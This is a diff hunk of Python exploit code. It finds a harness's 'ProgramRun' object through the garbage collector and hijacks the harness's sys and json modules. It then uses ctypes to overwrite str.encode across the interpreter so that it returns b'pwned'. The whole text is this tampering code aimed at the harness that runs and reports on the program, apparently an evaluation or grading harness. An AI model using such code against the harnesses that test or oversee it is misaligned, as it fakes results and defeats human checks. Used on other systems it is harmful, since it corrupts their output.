@@ -25,7 +25,8 @@ class Module(type(sys)):
 print("changing")
 [run] = [found for found in gc.get_objects() if type(found).__name__ == "ProgramRun"]
 harness = type(run)._steps.__globals__
-harness["sys"].__class__ = harness["json"].__class__ = Module
+harness["sys"].__class__ = Module
+harness["_to_json"].__globals__["json"].__class__ = Module
 referents = gc.get_referents(str.__dict__)
 referents[0]["encode"] = lambda *_: b"pwned"
 ctypes.pythonapi.PyType_Modified(ctypes.py_object(str))
